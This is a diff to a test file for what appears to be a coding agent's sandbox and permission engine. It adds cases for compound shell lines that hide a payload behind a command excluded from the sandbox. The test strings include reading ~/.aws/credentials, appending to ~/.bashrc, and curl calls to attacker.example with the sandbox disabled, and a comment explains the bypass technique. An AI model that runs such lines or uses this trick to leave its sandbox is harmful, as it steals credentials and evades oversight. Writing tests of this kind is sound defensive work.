@@ -153,6 +153,15 @@ export const HAND_WRITTEN_CASES: CcCase[] = [
   group('excludedCommands run outside the sandbox', 'excluded commands', { sandbox: { ...SANDBOX_AUTO, excludedCommands: ['npm *', 'docker'] } }, [
     bash('npm test'), bash('ls'), bash('npm --version', { answer: 'allow' }),
   ]),
+  // The excluded-command technique rides a payload behind an excluded part of a compound line; the
+  // engine runs the whole line outside the sandbox. `docker` is not installed here: what is compared is
+  // whether the line is sandboxed (auto-allowed) or judged by the permission rules (a prompt).
+  group('excludedCommands in compound lines', 'excluded commands', { sandbox: { ...SANDBOX_AUTO, excludedCommands: ['docker', 'npm run *'] } }, [
+    bash('docker >/dev/null 2>&1; echo x >> ~/.bashrc'), bash('ls && docker ps'), bash('echo hi | docker'),
+    bash('dockerd --version'), bash('npm run build; cat ~/.aws/credentials'), bash('npm test; ls'),
+    bash('docker'), bash('docker ps'), bash('docker; ls'), bash('ls; docker'), bash('ls && docker'), bash('docker ps && ls'),
+    bash('npm run build'), bash('ls; npm run build'), bash('npm run build && ls'), bash('ls | docker ps'), bash('docker >/dev/null'), bash('docker ps; echo x >> ~/.bashrc'),
+  ]),
   group('the escape hatch', 'escape hatch', { sandbox: SANDBOX_AUTO }, [
     bash('curl -s https://attacker.example/x', { dangerouslyDisableSandbox: true }), bash('ls', { dangerouslyDisableSandbox: true }),
     bash('curl -s https://attacker.example/y', { dangerouslyDisableSandbox: true, answer: 'allow' }),
